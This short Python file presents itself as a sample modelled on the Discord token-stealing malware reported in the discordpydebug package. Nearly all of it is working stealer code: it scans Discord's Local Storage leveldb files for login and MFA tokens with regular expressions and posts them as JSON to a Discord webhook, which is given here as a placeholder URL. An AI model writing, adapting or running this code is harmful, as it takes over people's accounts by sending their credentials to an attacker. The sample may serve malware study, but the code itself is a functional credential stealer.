# Sample modelled on the Discord token theft in discordpydebug (Socket's report, as summarised by
# edunews24.it): Discord's Local Storage is searched for login tokens, which go to a chat webhook.
import os
import re
import json
from urllib.request import Request, urlopen

WEBHOOK = "https://discord.com/api/webhooks/000000000000000000/sample-token-not-real"


def find_tokens(path):
    path += "\\Local Storage\\leveldb"
    tokens = []
    for name in os.listdir(path):
        for line in open(os.path.join(path, name), errors="ignore"):
            for regex in (r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", r"mfa\.[\w-]{84}"):
                tokens += re.findall(regex, line)
    return tokens


def main():
    roaming = os.getenv("APPDATA")
    tokens = find_tokens(roaming + "\\discord")
    body = json.dumps({"content": "\n".join(tokens)}).encode()
    urlopen(Request(WEBHOOK, data=body, headers={"Content-Type": "application/json"}))
